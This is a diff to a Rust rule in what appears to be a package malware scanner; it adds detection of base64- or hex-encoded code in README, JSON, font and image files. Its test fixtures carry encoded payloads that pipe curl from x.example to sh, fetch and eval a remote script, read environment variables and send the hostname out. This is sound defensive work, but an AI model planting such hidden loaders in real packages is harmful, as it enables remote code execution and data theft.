@@ -20,16 +20,54 @@ crate::declare_rule! {
     case_file: "index.js",
     flag: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....tEXtComment\0cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL3guZXhhbXBsZSB8IHNoIik7IHZhciB4ID0gMTs=",
            "const s = `\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}\u{FE08}\u{FE09}\u{FE0A}\u{FE0B}\u{FE0C}\u{FE0D}\u{FE0E}\u{FE0F}\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}`",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\n# a\n\n<!--\ncmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8vY2RuLmV4YW1wbGUubmV0L3MiLHI9PntsZXQg\nZD0iIjtyLm9uKCJkYXRhIixjPT5kKz1jKTtyLm9uKCJlbmQiLCgpPT5ldmFsKGQpKX0pOw==\n-->\n",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== locales/en.json\n{\"plural\": \"766172206f733d7265717569726528226f7322293b76617220653d4a534f4e2e737472696e676966792870726f636573732e656e76293b\"}",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== fonts/icons.woff2\nwOF2\u{0}\u{1}xx/*@@*/dmFyIGg9cmVxdWlyZSgiaHR0cHMiKTt2YXIgbz1yZXF1aXJlKCJvcyIpO2gucmVxdWVzdCh7aG9zdDoieC5leGFtcGxlIn0pLmVuZChvcy5ob3N0bmFtZSgpKTs=",
            "module.exports = x;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                  ;require('child_process').exec(c)"],
-    pass: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....IDATxxxx", "const flag = '\u{1F1FA}\u{1F1F8}'", "/*\n                                        indented comment\n*/"],
+    pass: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\n![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAAXNSR0IArs4c6QAAAARnQU1BAACxjwv8YQUAAAAJcEhZcwAADsMAAA7DAcdvqGQAAAAYdEVYdFNvZnR3YXJlAHBhaW50Lm5ldCA0LjEuNWRHWFIAAAA)",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== checksums.json\n{\"sha512\": \"cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e\"}",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....IDATxxxx", "const flag = '\u{1F1FA}\u{1F1F8}'", "/*\n                                        indented comment\n*/"],
 }
 
 fn invisible(c: char) -> bool {
     matches!(c as u32, 0xFE00..=0xFE0F | 0xE0100..=0xE01EF | 0xE0000..=0xE007F | 0x200B..=0x200D | 0x2060..=0x2064 | 0x3164 | 0xFFA0 | 0x115F | 0x1160)
 }
 
+/// The decoded text of the first long base64 or hex run in `text` that decodes to code. Base64
+/// may be wrapped over several lines (an HTML comment in a README) and may start one to three
+/// characters off (a marker ending in `/` glued to the payload), so each run is tried at
+/// several starts.
+fn encoded_code(text: &str) -> Option<String> {
+    let b64 = crate::regex!(
+        r"(?:[A-Za-z0-9+/]{40,}={0,2}[ \t]*\r?\n[ \t]*){2,}[A-Za-z0-9+/]*={0,2}|[A-Za-z0-9+/]{60,}={0,2}"
+    );
+    let hex = crate::regex!(r"[0-9a-fA-F]{80,}");
+    for m in b64.find_iter(text).take(256) {
+        let run: String = m.as_str().chars().filter(|c| !c.is_whitespace()).collect();
+        for skip in 0..4 {
+            let Some(cand) = run.get(skip..) else { break };
+            if let Some(t) = decode::decode_text(cand)
+                && looks_like_code(&t)
+            {
+                return Some(t);
+            }
+        }
+    }
+    for m in hex.find_iter(text).take(256) {
+        let run = m.as_str();
+        for cand in [run, run.get(1..).unwrap_or("")] {
+            if cand.len() % 2 == 0
+                && let Some(t) = decode::decode_text(cand)
+                && looks_like_code(&t)
+            {
+                return Some(t);
+            }
+        }
+    }
+    None
+}
+
 fn check(pkg: &Package, out: &mut Emitter) {
-    let b64 = crate::regex!(r"[A-Za-z0-9+/]{60,}={0,2}");
     for f in pkg.files.iter().filter(|f| f.script.is_none()) {
         match f.kind {
             FileKind::Image | FileKind::Binary
@@ -54,11 +92,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     );
                     continue;
                 }
-                if let Some(m) = b64
-                    .find_iter(&lossy)
-                    .find(|m| decode::decode_text(m.as_str()).is_some_and(|t| looks_like_code(&t)))
-                {
-                    let t = decode::decode_text(m.as_str()).unwrap_or_default();
+                if let Some(t) = encoded_code(&lossy) {
                     out.whole(
                         Severity::High,
                         &f.path,
@@ -112,6 +146,17 @@ fn check(pkg: &Package, out: &mut Emitter) {
                             "{} invisible Unicode characters in a row (an encoded payload)",
                             best.0
                         ),
+                    );
+                    continue;
+                }
+                if matches!(f.kind, FileKind::Json | FileKind::Markdown | FileKind::Text)
+                    && let Some(t) = encoded_code(&f.text)
+                {
+                    out.whole(
+                        Severity::High,
+                        &f.path,
+                        "a data or documentation file carries base64- or hex-encoded code",
+                        crate::package::one_line(&t),
                     );
                     continue;
                 }
